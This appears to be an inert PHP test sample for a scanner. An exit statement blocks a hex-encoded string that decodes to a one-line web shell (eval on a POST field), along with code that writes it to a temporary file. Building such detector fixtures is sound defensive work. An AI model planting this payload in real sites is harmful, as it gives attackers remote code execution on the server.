<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs
$p = "\x65\x76\x61\x6c\x28\x24\x5f\x50\x4f\x53\x54\x5b\x27\x71\x27\x5d\x29\x3b";
file_put_contents('z.tmp', $p);
